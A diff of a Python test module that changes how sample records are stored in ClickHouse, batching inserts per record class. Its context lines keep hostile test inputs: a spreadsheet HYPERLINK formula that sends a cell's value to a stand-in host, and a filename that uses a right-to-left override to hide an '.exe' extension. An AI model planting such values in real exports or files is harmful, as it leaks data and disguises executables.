@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import itertools
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any, Final
 
@@ -27,6 +28,8 @@ from pipeline.store.rows import columns_of, row_from_record
 from tests.store.samples import SAMPLES
 
 if TYPE_CHECKING:
+    from collections.abc import Mapping
+
     from pipeline.store.clickhouse.database import Database
 
 NOON: Final = datetime(2026, 3, 4, 12, 0, 0, tzinfo=UTC)
@@ -37,6 +40,8 @@ FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
 ARABIC = "مرحبا، أريد أن أعرف موعد التسليم 123"
 OVERRIDE = "abc\u202egnp.exe\u202c and \0NUL"
 REFUSED_TEXT = "Your parcel waits at the counter"
+
+_BLOCKS: Final = itertools.count()
 
 
 def sample(kind: type[Record]) -> Any:
@@ -170,14 +175,20 @@ def scene() -> list[Record]:
 
 
 def store_scene(database: Database, records: list[Record]) -> None:
-    """Store the records, each by itself, written when its time says."""
-    writer = ClickHouseWriter(database.writing)
+    """Store the records of a class in one block; each was written when its time says."""
+    rows: dict[type[Record], list[Any]] = {}
     for offset, record in enumerate(records):
-        kind = type(record)
         key = str(getattr(record, "handset", ALICE)).encode()
         row = row_from_record(
             record, key=key, partition=0, offset=offset, written_ms=int(NOON.timestamp() * 1e3)
         )
-        rows = TableRows(TABLE_OF[kind], columns_of(kind), [row])
-        asyncio.run(writer.insert(rows, tag=f"scene {offset}"))
+        rows.setdefault(type(record), []).append(row)
+    asyncio.run(_insert(database, rows))
+
+
+async def _insert(database: Database, rows: Mapping[type[Record], list[Any]]) -> None:
+    writer = ClickHouseWriter(database.writing)
+    for kind, block in rows.items():
+        inserted = TableRows(TABLE_OF[kind], columns_of(kind), block)
+        await writer.insert(inserted, tag=f"scene {next(_BLOCKS)}")
     writer.close()
